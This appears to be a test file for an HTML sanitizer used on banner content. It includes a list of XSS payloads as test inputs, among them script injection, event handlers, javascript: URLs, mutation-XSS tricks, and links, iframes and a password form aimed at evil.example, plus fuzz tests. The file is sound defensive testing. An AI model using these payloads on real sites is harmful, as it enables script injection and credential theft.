import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { harmlessHtml } from "#server/lib/harmless-html.ts";

const hostile = [
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/x>alert(1)</script >`,
	`<img src=x onerror=alert(1)>`,
	`<p onclick="alert(1)">x</p>`,
	`<p/onmouseover=alert(1)>x</p>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="java\nscript:alert(1)">x</a>`,
	`<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href=" \u0001javascript:alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="//evil.example/">x</a>`,
	`<a href="\\\\evil.example/">x</a>`,
	`<a href="/\\evil.example/">x</a>`,
	`<a href="/\t/evil.example/">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href="https://x.example" target="_top" onclick=alert(1) style="position:fixed;inset:0">x</a>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="x.swf"></object><embed src="x.swf">`,
	`<svg onload=alert(1)><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<style>body{background:url(https://evil.example)}</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<p class="admin-bar">x</p>`,
	`<p id="app">x</p>`,
	`<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=//evil.example">`,
	`<base href="https://evil.example/">`,
	`<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<textarea></textarea><script>alert(1)</script>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<body onload=alert(1)><html onclick=alert(1)>`,
	`"><img src=x onerror=alert(1)>`,
	`<<p>img src=x onerror=alert(1)>`,
	`<p title="<img src=x onerror=alert(1)>">x</p>`,
	`<img src="x\`><script>alert(1)</script>"\`>`,
];

const allowedTag = /^<(?:\/?(?:p|strong|em|b|i|u|span|h[2-4]|ul|ol|li|blockquote|a)|br \/)>$/;
const allowedLink =
	/^<a(?: href="(?:https?:\/\/|mailto:|tel:|\/(?![/\\])|[#?])[^"<>\s\p{Cc}]*")?(?: rel="noopener")?>$/u;

/** Everything in `html` that a browser could take for a tag and that is not allowed. */
function unsafeTags(html: string): string[] {
	const tags = html.match(/<[^>]*>?/g) ?? [];
	return tags.filter((tag) => !allowedTag.test(tag) && !allowedLink.test(tag));
}

describe("harmlessHtml", () => {
	it("keeps the marks a banner needs", () => {
		const html = `<h2>Love <em>and</em> faith</h2><p>Call <a href="tel:+255700000000" rel="noopener">us</a><br />today</p>`;
		expect(harmlessHtml(html)).toBe(html);
	});

	it.each([
		"https://awards.example/x",
		"mailto:a@b.example",
		"tel:+255700000000",
		"/seminars",
		"#top",
		"?a=1",
	])("keeps a link to %s", (href) => {
		expect(harmlessHtml(`<a href="${href}">x</a>`)).toBe(`<a href="${href}" rel="noopener">x</a>`);
	});

	it.each(hostile)("renders harmless: %s", (html) => {
		expect(unsafeTags(harmlessHtml(html))).toEqual([]);
	});

	it("limits nesting that would exhaust a browser", () => {
		const clean = harmlessHtml(`${"<blockquote>".repeat(5000)}x`);
		expect(clean.match(/<blockquote>/g)?.length).toBeLessThanOrEqual(32);
	});

	it("would notice if the guard were off", () => {
		const passed = hostile.filter((html) => unsafeTags(html).length === 0);
		expect(passed).toEqual([]);
	});

	it("renders any mixture of fragments harmless, the first time and the second", () => {
		const fragment = fc.oneof(
			fc.constantFrom(...hostile),
			fc.constantFrom(
				"<",
				">",
				"</",
				"<!--",
				"-->",
				'"',
				"'",
				"`",
				"&#",
				"&lt;",
				"&amp;lt;",
				"<a href=",
				"\0",
				"=",
			),
			fc.constantFrom("<p>", "</p>", "<b>", "<ul><li>", "<a href='/x'>", "</a>", "<title>", "<plaintext>"),
			fc.string({ maxLength: 12 }),
		);
		fc.assert(
			fc.property(fc.array(fragment, { maxLength: 12 }), (fragments) => {
				const clean = harmlessHtml(fragments.join(""));
				expect(unsafeTags(clean)).toEqual([]);
				expect(unsafeTags(harmlessHtml(clean))).toEqual([]);
			}),
			{ numRuns: 2000 },
		);
	});
});
